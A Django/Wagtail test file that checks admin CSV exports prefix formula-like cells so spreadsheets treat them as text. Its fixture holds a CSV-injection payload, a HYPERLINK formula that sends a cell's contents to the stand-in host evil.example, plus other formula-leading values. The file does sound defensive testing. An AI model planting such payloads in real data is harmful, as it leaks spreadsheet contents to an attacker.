"""Every CSV the admin writes neutralises cells a spreadsheet would run as formulas."""

import pytest
from django.urls import reverse
from wagtail.admin.viewsets import viewsets
from wagtail.admin.viewsets.model import ModelViewSet

from core.exports import SafeSpreadsheetExportMixin
from tests.factories.events import RegistrationFactory

pytestmark = pytest.mark.django_db

PROJECT_APPS = {"core", "crm", "events", "cms"}
PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_a_strangers_registration_exports_as_text_not_a_formula(officer_client):
    RegistrationFactory(family_name=PAYLOAD, given_name="@SUM(1+1)", university="-2+3")

    response = officer_client.get(reverse("registration:index"), {"export": "csv"})
    exported = b"".join(response.streaming_content).decode()

    assert "'" + PAYLOAD.replace('"', '""') in exported
    assert ",'@SUM(1+1)," in exported
    assert ",'-2+3," in exported
    for line in exported.splitlines()[1:]:
        assert not line.startswith(("=", "+", "-", "@"))


def test_every_project_list_with_an_export_writes_its_csv_through_the_safe_mixin():
    # Wagtail's own lists (locales, redirects) export what staff typed, not the public.
    exporting = [
        viewset
        for viewset in viewsets.viewsets
        if isinstance(viewset, ModelViewSet)
        and viewset.list_export
        and viewset.model._meta.app_label in PROJECT_APPS
    ]

    assert exporting, "no admin list offers an export"
    for viewset in exporting:
        assert issubclass(viewset.index_view_class, SafeSpreadsheetExportMixin), viewset.name
